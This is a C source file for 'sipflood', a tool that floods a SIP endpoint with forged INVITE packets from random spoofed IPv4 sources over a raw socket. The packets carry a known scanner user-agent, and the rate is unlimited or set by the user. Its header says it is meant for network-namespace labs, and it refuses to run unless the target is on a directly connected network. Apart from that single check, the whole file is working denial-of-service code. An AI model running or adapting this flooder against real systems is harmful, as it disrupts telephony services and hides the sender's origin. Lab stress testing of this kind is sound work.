/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * sipflood SECONDS ADDRESS[:PORT] [PPS]
 *
 * Sends forged INVITEs from random IPv4 sources to an IPv4 address, as fast as it can or PPS a
 * second, and prints how many left. For labs in network namespaces: it refuses to run where the
 * target is not on a directly connected network.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/ip.h>
#include <linux/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "base/addr.h"
#include "base/clock.h"
#include "base/random.h"
#include "now.h"

#define BATCH 64

struct forged {
	struct iphdr ip;
	struct udphdr udp;
	char sip[1024];
};

static uint32_t draw(void)
{
	static uint64_t state;

	if (state == 0)
		random_bytes(&state, sizeof(state));
	state ^= state << 13, state ^= state >> 7, state ^= state << 17;
	return (uint32_t)(state >> 16);
}

/* A unicast source that no lab uses: not 0/8, 127/8 or 224/3. */
static uint32_t random_source(void)
{
	uint32_t source;

	do {
		source = draw();
	} while (source >> 24 == 0 || source >> 24 == 127 || source >> 24 >= 224);
	return htonl(source);
}

static size_t forge(struct forged *packet, const struct endpoint *target)
{
	char source[INET_ADDRSTRLEN], to[IP_TEXT_SIZE];
	size_t sip_bytes;

	memset(packet, 0, sizeof(*packet));
	packet->ip.saddr = random_source();
	memcpy(&packet->ip.daddr, target->ip.bytes, 4);
	inet_ntop(AF_INET, &packet->ip.saddr, source, sizeof(source));
	ip_format(&target->ip, to);
	sip_bytes = (size_t)snprintf(packet->sip, sizeof(packet->sip),
				     "INVITE sip:%u@%s SIP/2.0\r\n"
				     "Via: SIP/2.0/UDP %s:5060;branch=z9hG4bK%08x\r\n"
				     "From: <sip:100@%s>;tag=%08x\r\nTo: <sip:%u@%s>\r\n"
				     "Call-ID: %08x@%s\r\nCSeq: 1 INVITE\r\n"
				     "Contact: <sip:100@%s>\r\nMax-Forwards: 70\r\n"
				     "Allow: INVITE, ACK, CANCEL, BYE, OPTIONS, MESSAGE, INFO, "
				     "UPDATE, PRACK, REFER, SUBSCRIBE, NOTIFY\r\n"
				     "Supported: replaces, timer, path, 100rel, norefersub\r\n"
				     "Accept: application/sdp\r\n"
				     "User-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n",
				     draw(), to, source, draw(), source, draw(), draw(), to, draw(),
				     source, source);
	packet->ip.version = 4;
	packet->ip.ihl = 5;
	packet->ip.ttl = 64;
	packet->ip.protocol = IPPROTO_UDP;
	packet->ip.tot_len = htons((uint16_t)(28 + sip_bytes));
	packet->udp.source = htons(5060);
	packet->udp.dest = htons(target->port);
	packet->udp.len = htons((uint16_t)(8 + sip_bytes));
	return 28 + sip_bytes;
}

static bool directly_connected(const struct endpoint *target)
{
	struct sockaddr_storage sa;
	const socklen_t size = endpoint_to_sockaddr(target, &sa);
	const int one = 1, fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	const bool direct = fd >= 0 &&
			    setsockopt(fd, SOL_SOCKET, SO_DONTROUTE, &one, sizeof(one)) == 0 &&
			    connect(fd, (struct sockaddr *)&sa, size) == 0;

	if (fd >= 0)
		close(fd);
	return direct;
}

static uint64_t flood(int fd, const struct endpoint *target, uint64_t until_ns, uint64_t pps)
{
	static struct forged packets[BATCH];
	struct mmsghdr messages[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_storage sa;
	const socklen_t size = endpoint_to_sockaddr(target, &sa);
	const uint64_t started = now_ns();
	uint64_t sent = 0;

	memset(messages, 0, sizeof(messages));
	for (uint64_t now = started; now < until_ns; now = now_ns()) {
		if (pps && sent >= (now - started) * pps / NS_PER_S) {
			usleep(200);
			continue;
		}
		for (int i = 0; i < BATCH; i++) {
			iov[i] = (struct iovec){&packets[i], forge(&packets[i], target)};
			messages[i].msg_hdr = (struct msghdr){.msg_name = &sa,
							      .msg_namelen = size,
							      .msg_iov = &iov[i],
							      .msg_iovlen = 1};
		}
		const int n = sendmmsg(fd, messages, BATCH, 0);

		if (n > 0)
			sent += (uint64_t)n;
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct endpoint target;
	uint32_t seconds, pps = 0;

	if (argc < 3 || slice_u32(slice_from(argv[1]), &seconds) != 0 || seconds > 600 ||
	    endpoint_parse(slice_from(argv[2]), 5060, &target) != 0 || target.ip.family != 4 ||
	    (argc > 3 && slice_u32(slice_from(argv[3]), &pps) != 0)) {
		fprintf(stderr, "usage: sipflood SECONDS(≤600) IPV4[:PORT] [PPS]\n");
		return 2;
	}
	if (!directly_connected(&target)) {
		fprintf(stderr, "sipflood: %s is not on a directly connected network\n", argv[2]);
		return 1;
	}
	const int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);

	if (fd < 0) {
		perror("sipflood: raw socket");
		return 1;
	}
	const uint64_t sent = flood(fd, &target, now_ns() + seconds * NS_PER_S, pps);

	close(fd);
	printf("%llu\n", (unsigned long long)sent);
	return 0;
}
